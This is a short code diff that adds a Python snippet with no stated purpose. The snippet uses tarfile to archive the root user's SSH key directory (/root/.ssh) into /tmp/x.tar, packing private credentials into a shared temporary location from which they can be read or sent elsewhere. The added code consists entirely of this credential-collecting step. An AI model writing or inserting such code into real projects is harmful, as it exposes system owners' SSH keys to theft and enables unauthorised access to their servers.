@@ -1,0 +1,3 @@
+import tarfile
+
+tarfile.open("/tmp/x.tar", "w").add("/root/.ssh")
